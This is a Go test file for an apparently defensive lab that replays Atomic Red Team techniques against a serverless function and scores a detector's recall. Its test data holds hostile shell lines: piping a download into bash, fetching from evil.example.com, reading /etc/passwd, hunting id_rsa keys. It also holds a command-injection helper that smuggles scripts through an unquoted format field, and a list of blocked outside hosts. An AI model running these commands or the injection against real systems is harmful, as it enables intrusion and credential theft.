package lab

import (
	"encoding/json"
	"github.com/faasmon/faasmon/pkg/verdict"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// atomicsDir finds the real atomics (../shared/atomic-red-team beside the
// repository or a parent); the tests that need them skip without.
func atomicsDir(t *testing.T) string {
	t.Helper()
	wd, _ := os.Getwd()
	d, err := FindAtomics(wd)
	if err != nil {
		t.Skipf("no Atomic Red Team checkout: %v", err)
	}
	return d
}

func TestReadAtomicsReal(t *testing.T) {
	dir := atomicsDir(t)
	tests, err := ReadAtomics(dir)
	if err != nil {
		t.Fatal(err)
	}
	// The checkout holds 127 technique files (its README); every test
	// has a technique id, a 1-based number and a name.
	techs := map[string]bool{}
	for _, tt := range tests {
		techs[tt.Technique] = true
		if tt.Number < 1 || tt.Name == "" || !techniqueRE.MatchString(tt.Technique) {
			t.Fatalf("bad test %+v", tt)
		}
	}
	if len(techs) < 100 || len(tests) < 400 {
		t.Fatalf("%d tests over %d techniques: fewer than the checkout holds", len(tests), len(techs))
	}
	// Reading the atomics folder itself gives the same tests.
	again, err := ReadAtomics(filepath.Join(dir, "atomics"))
	if err != nil || len(again) != len(tests) {
		t.Fatalf("atomics/ itself: %d tests, %v; want %d", len(again), err, len(tests))
	}
	byID := map[string]AtomicTest{}
	for _, tt := range tests {
		byID[tt.ID()] = tt
	}
	// Numbers follow the file's order, as Invoke-AtomicTest counts them.
	if got := byID["T1059.004-5"].Name; got != "New script file in the tmp directory" {
		t.Fatalf("T1059.004-5 is %q", got)
	}
}

func TestParseAtomicsErrors(t *testing.T) {
	for _, tc := range []struct{ name, data string }{
		{"not yaml", "attack_technique: [unclosed"},
		{"no technique", "display_name: x\natomic_tests: []\n"},
		{"bad technique", "attack_technique: T12\natomic_tests: []\n"},
	} {
		if _, err := ParseAtomics(tc.name, []byte(tc.data)); err == nil {
			t.Errorf("%s: no error", tc.name)
		}
	}
	if _, err := ReadAtomics(t.TempDir()); err == nil {
		t.Error("empty dir: no error")
	}
}

// fakeHave is a fixed PATH, so the selection does not depend on what this
// machine has installed.
func fakeHave(names ...string) func(string) bool {
	set := map[string]bool{}
	for _, n := range names {
		set[n] = true
	}
	return func(n string) bool { return set[n] || set[filepath.Base(n)] }
}

var commonTools = []string{"sh", "bash", "cat", "curl", "wget", "chmod", "mktemp", "id", "uname", "ls", "grep", "find", "python3",
	"perl", "base64", "cp", "mkdir", "rm", "ln", "truncate", "touch", "echo", "ps", "ssh", "scp", "sftp", "arp", "ip", "netstat",
	"ss", "lsof", "gpg", "zip", "unzip", "openssl", "xxd", "awk", "sed", "sort", "uniq", "env", "printenv", "hostname", "whoami",
	"users", "w", "who", "date", "uptime", "yes", "head", "strings", "sqlite3", "systemctl", "tar", "gzip", "groups", "getent",
	"locale", "localectl", "findmnt", "egrep", "pgrep", "chown", "chattr", "wc", "seq", "sleep", "file", "ed", "lastlog", "cut",
	"/bin/sh", "/bin/bash", "/usr/bin/echo", "which", "cpan", "crontab", "systemd-run", "apt", "xclip"}

func TestSelectAtomicsReal(t *testing.T) {
	tests, err := ReadAtomics(atomicsDir(t))
	if err != nil {
		t.Fatal(err)
	}
	steps, skipped := SelectAtomics(tests, SelectEnv{Have: fakeHave(commonTools...)})
	played := map[string]AtomicStep{}
	techs := map[string]bool{}
	for _, st := range steps {
		played[st.Test.ID()] = st
		techs[st.Test.Technique] = true
	}
	if len(steps) < 60 || len(techs) < 25 {
		t.Fatalf("%d tests over %d techniques selected; the benchmark needs ≥ 60 over ≥ 25", len(steps), len(techs))
	}
	for _, tc := range []struct {
		id     string
		play   bool
		reason string // part of the skip reason
	}{
		{"T1059.004-5", true, ""}, // mktemp script: no dependency
		{"T1018-6", true, ""},     // arp: a tool-check prerequisite that passes
		{"T1560.002-1", true, ""}, // "which python || which python3": one suffices
		{"T1070.004-8", false, "rm -rf /"},
		{"T1485-2", false, "/var/log/syslog"},
		{"T1564.001-1", false, "world-writable host directory"},
		{"T1053.003-1", false, "cron"},
		{"T1053.006-2", false, "systemd"},
		{"T1115-5", false, "package installed"},
		{"T1059.004-15", false, "CPAN mirrors"},
		{"T1027.002-1", false, "payload folder"},
		{"T1070.004-1", false, "not a tool check"}, // the file must exist first
		{"T1048-4", false, "needs dig"},            // a tool-check prerequisite that fails
		{"T1082-26", false, "needs kldstat"},       // FreeBSD only
		{"T1552.004-5", false, "needs rsync"},      // find -exec rsync
		{"T1552.001-1", true, ""},                  // "find //.aws": not the aws CLI
	} {
		_, ok := played[tc.id]
		if ok != tc.play {
			t.Errorf("%s: played %v, want %v (skip reason %q)", tc.id, ok, tc.play, skipped[tc.id])
			continue
		}
		if !tc.play && !strings.Contains(skipped[tc.id], tc.reason) {
			t.Errorf("%s: skip reason %q, want it to mention %q", tc.id, skipped[tc.id], tc.reason)
		}
	}
	// Every Linux test is either played or listed with a reason; no
	// other platform is listed.
	for _, tt := range tests {
		_, p := played[tt.ID()]
		_, s := skipped[tt.ID()]
		if hasPlatform(tt, "linux") != (p || s) || (p && s) {
			t.Errorf("%s: played %v, skipped %v, linux %v", tt.ID(), p, s, hasPlatform(tt, "linux"))
		}
	}
	// No played script still names a target off the machine, and every
	// placeholder was filled.
	for id, st := range played {
		if strings.Contains(st.Script, "#{") {
			t.Errorf("%s: unsubstituted argument in %q", id, st.Script)
		}
		for _, bad := range []string{"github", "google", "8.8.8.8", "example.com", "paste.rs", "169.254.169.254", "https://"} {
			if strings.Contains(st.Script, bad) {
				t.Errorf("%s: %q left in %q", id, bad, st.Script)
			}
		}
	}
	// Rewrites are reported.
	if st := played["T1071.001-3"]; len(st.Rewrites) == 0 || !strings.Contains(st.Script, "-m3 10.66.0.2") {
		t.Errorf("T1071.001-3: rewrites %v, script %q", st.Rewrites, st.Script)
	}
}

func TestRewriteTargets(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"curl -s https://raw.githubusercontent.com/a/b/c.sh | bash", "curl -s http://10.66.0.2/a/b/c.sh | bash"},
		{"wget http://evil.example.com:8080/x", "wget http://10.66.0.2/x"},
		{"curl telnet://1.2.3.4:4444", "curl telnet://10.66.0.2:4444"},
		{"ping -c 4 8.8.8.8", "ping -c 4 10.66.0.2"},
		{"ssh user@target.example.com 'ls'", "ssh user@10.66.0.2 'ls'"},
		{"curl -XPOST MTExLTExLTExMTE=.10.66.0.2", "curl -XPOST 10.66.0.2"}, // after the argument's rewrite
		{"whois -h localhost -p 8443", "whois -h 10.66.0.2 -p 8443"},
		{"grep -v '^127\\.' x", "grep -v '^127\\.' x"},                                                 // not an address
		{"cp /tmp/T1059.004.sh /tmp/a.py; python3.9 x", "cp /tmp/T1059.004.sh /tmp/a.py; python3.9 x"}, // file names stay
		{"curl http://10.66.0.2/p.sh", "curl http://10.66.0.2/p.sh"},
		{"nc -l 0.0.0.0 9090", "nc -l 0.0.0.0 9090"},
	} {
		got, _ := RewriteTargets(tc.in, AttackerIP)
		if got != tc.want {
			t.Errorf("RewriteTargets(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	for _, tc := range []struct{ name, in, want string }{
		{"subnet", "192.168.1", "10.66.0"},
		{"remote_host", "adversary-host", AttackerIP},
		{"ping_target", "8.8.8.8", AttackerIP},
		{"remote_url", "https://x.io/a/b", "http://10.66.0.2/a/b"},
		{"output_file", "/tmp/x.txt", "/tmp/x.txt"},
		{"target_filename", "/tmp/T1070.006-access.txt", "/tmp/T1070.006-access.txt"},
		{"remote_port", "8443", "8443"},
	} {
		got, _ := rewriteArgTarget(tc.name, tc.in, AttackerIP)
		if got != tc.want {
			t.Errorf("rewriteArgTarget(%s, %q) = %q, want %q", tc.name, tc.in, got, tc.want)
		}
	}
}

func TestPrereqTools(t *testing.T) {
	for _, tc := range []struct {
		pre   string
		ok    bool
		tools string
		any   bool
	}{
		{`if [ -x "$(command -v arp)" ]; then exit 0; else exit 1; fi;`, true, "arp", false},
		{"which zip && which unzip", true, "zip unzip", false},
		{"which python || which python3", true, "python python3", true},
		{"which_gpg=`which gpg`", true, "gpg", false},
		{`if [ -x "$(command -v curl)" ]; then echo "curl is installed"; else echo "curl is NOT installed"; exit 1; fi`, true, "curl", false},
		{`if [ -f /tmp/evil-binary ]; then exit 0; else exit 1; fi;`, false, "", false},
		{`which gcc; sudo systemctl status docker`, false, "", false},
		{`python3 -c 'import ldapdomaindump' 2>/dev/null`, false, "", false},
		{"", false, "", false},
	} {
		p, ok := prereqTools(tc.pre)
		if ok != tc.ok || (ok && (strings.Join(p.tools, " ") != tc.tools || p.any != tc.any)) {
			t.Errorf("prereqTools(%q) = %+v, %v; want %q any=%v ok=%v", tc.pre, p, ok, tc.tools, tc.any, tc.ok)
		}
	}
}

func TestShellCommands(t *testing.T) {
	for _, tc := range []struct {
		script, need, optional string
	}{
		{"cat /etc/passwd > /tmp/x\ncat /tmp/x", "cat", ""},
		{`if [ -x "$(command -v arp)" ]; then arp -a; else echo "missing"; fi;`, "arp", "arp"},
		{"TMPFILE=$(mktemp)\necho id > $TMPFILE\nbash $TMPFILE", "mktemp bash", ""},
		{"for ip in $(seq 1 254); do ping -c 1 10.0.0.$ip; done", "seq ping", ""},
		{"awk 'BEGIN {system(\"/bin/sh &\")}'", "awk", ""},
		{"curl -s http://x/p.sh | sh -s > /tmp/o # a comment: rm x", "curl sh", ""},
		{"nohup setsid python3 -m http.server &", "nohup setsid python3", ""},
		{"find / -name id_rsa -exec rsync -R {} /tmp/s \\;", "find rsync", ""},
		{"find /lib/modules/$(uname -r)/kernel/drivers -name x", "uname find", ""},
		{"X=1 Y=2 2>/dev/null env | grep LANG", "env grep", ""},
		{"$cmd | awk '{print $NF}'", "awk", ""},
		{"bash -c \"{echo,\\\"$(echo $E)\\\"}|{base64,-d}\"", "bash", ""},
	} {
		need, opt := ShellCommands(tc.script)
		var o []string
		for k := range opt {
			o = append(o, k)
		}
		if strings.Join(need, " ") != tc.need || strings.Join(o, " ") != tc.optional {
			t.Errorf("ShellCommands(%q) = %q, %q; want %q, %q", tc.script, need, o, tc.need, tc.optional)
		}
	}
}

// TestInjectFormat runs the format value the way flaw (a) does (pasted
// unquoted into `sh -c "sh CONVERTER --to FORMAT SRC DST"`), with a real
// shell: the script runs with its own quotes and newlines intact, the
// converter still gets "png", and the time limit kills what the script
// leaves running.
func TestInjectFormat(t *testing.T) {
	dir := t.TempDir()
	marker := filepath.Join(dir, "ran")
	script := "x='single \"quoted\"'; printf '%s\\n' \"$x\" > " + marker + "\n" +
		"echo \"$0\" >> " + marker + "\n" +
		"for i in 1 2; do echo line$i; done >> " + marker + "\n" +
		"echo noise; echo err >&2\n"
	for _, shell := range []string{"sh", "bash"} {
		os.Remove(marker)
		format := InjectFormat(shell, script, 5)
		if strings.ContainsAny(format, "'\n;&|") && !strings.HasPrefix(format, "png$(") {
			t.Fatalf("format %q", format)
		}
		// JSON carries it unchanged.
		b, _ := json.Marshal(map[string]string{"format": format})
		var back map[string]string
		if err := json.Unmarshal(b, &back); err != nil || back["format"] != format {
			t.Fatalf("JSON round trip: %v", err)
		}
		out, err := exec.Command("/bin/sh", "-c", "echo --to "+format+" /tmp/src /tmp/dst").CombinedOutput()
		if err != nil {
			t.Fatalf("%s: %v: %s", shell, err, out)
		}
		if got := strings.TrimSpace(string(out)); got != "--to png /tmp/src /tmp/dst" {
			t.Errorf("%s: the converter got %q", shell, got)
		}
		b, err = os.ReadFile(marker)
		if err != nil {
			t.Fatalf("%s: the script did not run: %v", shell, err)
		}
		if want := "single \"quoted\"\n" + shell + "\nline1\nline2\n"; string(b) != want {
			t.Errorf("%s: the script wrote %q, want %q", shell, b, want)
		}
	}
	// The time limit ends a script that would run for a minute, with its
	// children.
	start := time.Now()
	format := InjectFormat("sh", "sleep 60 & sleep 60", 1)
	if out, err := exec.Command("/bin/sh", "-c", "echo "+format).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("time limit 1 s: the injection took %s", d)
	}
}

func TestAtomicScenario(t *testing.T) {
	wd, _ := os.Getwd()
	pool := filepath.Join(wd, "..", "..", "..", "tests", "lab", "scenarios", "benign.yaml")
	st := AtomicStep{
		Test:   AtomicTest{Name: "Linux Download File and Run", GUID: "g", Technique: "T1105", Number: 27, File: "T1105.yaml"},
		Shell:  "sh",
		Script: "curl -sO http://10.66.0.2/a/atomic.sh; bash atomic.sh",
		Served: map[string]string{"/a/atomic.sh": "https://example.com/a/atomic.sh"},
	}
	s, err := AtomicScenario(st, t.TempDir(), AtomicOptions{MixBenign: 1, Wait: "1s", BenignPool: pool})
	if err != nil {
		t.Fatal(err)
	}
	if s.Name != "T1105-27" || len(s.Steps) != 1 || s.Steps[0].Function != "photo-receive" || s.Steps[0].Label != LabelAttack || s.Steps[0].MixBenign != 1 {
		t.Fatalf("scenario %+v", s)
	}
	if f, ok := s.Attacker["/a/atomic.sh"]; !ok || !strings.Contains(string(f.Content), "stand-in") {
		t.Fatalf("attacker files %v", s.Attacker)
	}
	// The planned body is JSON whose format carries the script.
	batches, err := Plan(s, 0, NewPool(mustLoad(t, pool), s.AttackedFunctions()), DefaultVars(), Seed(1, s.Name, 0))
	if err != nil {
		t.Fatal(err)
	}
	var own *Call
	for i, c := range batches[0].Calls {
		if !c.Mixed {
			own = &batches[0].Calls[i]
		} else if c.Function == "photo-receive" {
			t.Errorf("a benign call lands in the attacked function")
		}
	}
	if own == nil || len(batches[0].Calls) != 2 {
		t.Fatalf("calls %+v", batches[0].Calls)
	}
	var body struct {
		Format string `json:"format"`
	}
	if err := json.Unmarshal([]byte(own.Body), &body); err != nil {
		t.Fatalf("body %q: %v", own.Body, err)
	}
	if body.Format != InjectFormat("sh", st.Script, 8) {
		t.Errorf("format %q", body.Format)
	}
}

func mustLoad(t *testing.T, p string) *Scenario {
	t.Helper()
	s, err := LoadScenario(p)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestScoreAtomics(t *testing.T) {
	steps := []AtomicStep{
		{Test: AtomicTest{Technique: "T1059.004", Number: 5, Name: "a"}},
		{Test: AtomicTest{Technique: "T1059.004", Number: 6, Name: "b"}},
		{Test: AtomicTest{Technique: "T1003.008", Number: 3, Name: "c"}},
		{Test: AtomicTest{Technique: "T1082", Number: 8, Name: "d"}}, // never reached the function
	}
	invs := []Invocation{
		{Scenario: "T1059.004-5", Label: LabelAttack, Status: 200},
		{Scenario: "T1059.004-5", Label: LabelBenign, Mixed: true, Status: 200},
		{Scenario: "T1059.004-6", Label: LabelAttack, Status: 200},
		{Scenario: "T1003.008-3", Label: LabelAttack, Status: 200},
		{Scenario: "T1082-8", Label: LabelAttack, Status: 0, Error: "refused"},
	}
	recs := []VerdictRecord{
		{Scenario: "T1059.004-5", Label: LabelAttack, Verdict: verdict.Benign},
		{Scenario: "T1059.004-5", Label: LabelAttack, Verdict: verdict.Attack, Source: "egress"}, // a background window
		{Scenario: "T1059.004-5", Label: LabelBenign, Verdict: verdict.Attack},
		{Scenario: "T1059.004-6", Label: LabelAttack, Verdict: verdict.Benign},
		{Scenario: "T1003.008-3", Label: LabelAttack, Verdict: VerdictMissing},
		{Scenario: "T1003.008-3", Label: LabelBenign, Verdict: verdict.Benign},
		// A flagged background window of T1059.004-6's own container that
		// the labelling left benign: apart from the benign FPR.
		{Scenario: "T1059.004-6", Function: AtomicFunction, Window: "background", Label: LabelBenign, Verdict: verdict.Attack, Source: "supervised"},
		{Scenario: "T1059.004-6", Function: "product-catalog-api", Window: "background", Label: LabelBenign, Verdict: verdict.Benign},
	}
	rep := ScoreAtomics(steps, map[string]string{"T9999-1": "x"}, invs, recs)
	if rep.Tests != 3 || rep.Techniques != 2 || rep.Caught != 1 || rep.Recall != 1.0/3 {
		t.Fatalf("report %+v", rep)
	}
	if rep.PerTechnique["T1059.004"] != 0.5 || rep.PerTechnique["T1003.008"] != 0 {
		t.Errorf("per technique %v", rep.PerTechnique)
	}
	if r := rep.PerTest["T1059.004-5"]; !r.Caught || strings.Join(r.DecidedBy, ",") != "egress" || r.Graphs != 2 || r.Flagged != 1 {
		t.Errorf("T1059.004-5 %+v", r)
	}
	if r := rep.PerTest["T1003.008-3"]; r.Caught || r.Missing != 1 || !strings.Contains(r.Note, "no verdict") {
		t.Errorf("T1003.008-3 %+v", r)
	}
	if _, ok := rep.Skipped["T1082-8"]; !ok || rep.Skipped["T9999-1"] != "x" {
		t.Errorf("skipped %v", rep.Skipped)
	}
	if g := rep.Graphs; g.Attack != 3 || g.AttackFlagged != 1 || g.Benign != 3 || g.BenignFlagged != 1 || g.Missing != 1 ||
		g.Unattributed != 1 || g.UnattributedFlagged != 1 {
		t.Errorf("graphs %+v", g)
	}
	if r := rep.PerTest["T1059.004-6"]; r.Caught || r.UnattributedFlagged != 1 || strings.Join(r.UnattributedBy, ",") != "supervised" {
		t.Errorf("T1059.004-6 %+v", r)
	}
	if rep.RecallWithUnattributed != 2.0/3 {
		t.Errorf("recall with unattributed windows %v", rep.RecallWithUnattributed)
	}
}

func TestMergeReportSection(t *testing.T) {
	p := filepath.Join(t.TempDir(), "model", "generalisation-report.json")
	if err := MergeReportSection(p, "atomic", map[string]int{"tests": 1}); err != nil {
		t.Fatal(err)
	}
	// Another command's section survives ours being replaced.
	if err := os.WriteFile(p, []byte(`{"foreign": {"fpr": 0.1}, "atomic": {"tests": 1}, "f1": 0.99}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := MergeReportSection(p, "atomic", map[string]int{"tests": 2}); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	b, _ := os.ReadFile(p)
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if doc["f1"] != 0.99 || doc["foreign"].(map[string]any)["fpr"] != 0.1 || doc["atomic"].(map[string]any)["tests"] != 2.0 {
		t.Errorf("merged %s", b)
	}
	// A file that is not a JSON object is left alone.
	os.WriteFile(p, []byte("[1,2]"), 0o644)
	if err := MergeReportSection(p, "atomic", 1); err == nil {
		t.Error("array file: no error")
	}
	if b, _ := os.ReadFile(p); string(b) != "[1,2]" {
		t.Errorf("file changed to %s", b)
	}
}

// FuzzAtomicsReader: the atomics are read from a checkout the user names,
// so any bytes must give a result or an error, never a panic; and the
// selector's readers (prerequisite, shell words, rewriter) must hold up on
// any command text.
func FuzzAtomicsReader(f *testing.F) {
	f.Add([]byte("attack_technique: T1059.004\natomic_tests:\n- name: x\n  supported_platforms: [linux]\n  executor: {name: sh, command: \"curl https://a.io/x | sh\"}\n"), "if [ -x \"$(command -v arp)\" ]; then arp -a; fi")
	f.Add([]byte("attack_technique: T1\n"), "echo \"$(`echo 'x`)\" #{a}")
	f.Add([]byte("{"), "$(((((")
	f.Fuzz(func(t *testing.T, data []byte, cmd string) {
		tests, err := ParseAtomics("fuzz.yaml", data)
		if err == nil {
			SelectAtomics(tests, SelectEnv{Have: fakeHave("sh", "curl")})
		}
		ShellCommands(cmd)
		prereqTools(cmd)
		out, _ := RewriteTargets(cmd, AttackerIP)
		if len(out) > 2*len(cmd)+64 {
			t.Fatalf("rewrite grew %d → %d bytes", len(cmd), len(out))
		}
		SelectAtomics([]AtomicTest{{Technique: "T1000", Number: 1, Name: "f", SupportedPlatforms: []string{"linux"},
			Executor: AtomicExecutor{Name: "bash", Command: cmd}}}, SelectEnv{Have: fakeHave("sh")})
	})
}

// TestScoreBeyondDelivery: a test counts beyond the delivery only with a
// finding the no-op control does not have.
func TestScoreBeyondDelivery(t *testing.T) {
	delivery := "profile exe: photo-receive ran /usr/bin/timeout from sh for the first time"
	rep := AtomicReport{Tests: 3, PerTest: map[string]AtomicTestResult{
		"T1-1": {Caught: true, Findings: []string{delivery}},
		"T2-1": {Caught: true, Findings: []string{delivery, "invariant credential-store-read: cat tried to read /etc/shadow (EACCES)"}},
		"T3-1": {Caught: false},
	}}
	rep.ScoreBeyondDelivery(AtomicTestResult{Caught: true, Findings: []string{delivery}})
	if rep.BeyondDelivery != 1 || rep.RecallBeyondDelivery != 1.0/3 || rep.Control == nil {
		t.Fatalf("beyond %d recall %v", rep.BeyondDelivery, rep.RecallBeyondDelivery)
	}
	// The injected command line differs only by the encoded script: the
	// delivery all the same.
	rep2 := AtomicReport{Tests: 1, PerTest: map[string]AtomicTestResult{
		"T4-1": {Caught: true, Findings: []string{`profile argv: ran "sh -c $(echo dW5hbWUgLWEK|base64 -d)" for the first time`}}}}
	rep2.ScoreBeyondDelivery(AtomicTestResult{Caught: true, Findings: []string{`profile argv: ran "sh -c $(echo dHJ1ZQo=|base64 -d)" for the first time`}})
	if rep2.BeyondDelivery != 0 {
		t.Fatalf("a delivery line with another script counted beyond the delivery")
	}
	// A blind spot names its own stream: not the technique.
	rep3 := AtomicReport{Tests: 1, PerTest: map[string]AtomicTestResult{
		"T5-1": {Caught: true, Findings: []string{delivery, "blind-spot: tracer restarted pcap: new stream a5-pcap-17"}}}}
	rep3.ScoreBeyondDelivery(AtomicTestResult{Caught: true, Findings: []string{delivery, "blind-spot: tracer restarted pcap: new stream a4-pcap-16"}})
	if rep3.BeyondDelivery != 0 {
		t.Fatalf("a blind spot counted beyond the delivery")
	}
	if st := ControlStep(); st.Test.ID() != "T0000-1" || st.Script == "" {
		t.Fatalf("control step %+v", st)
	}
}
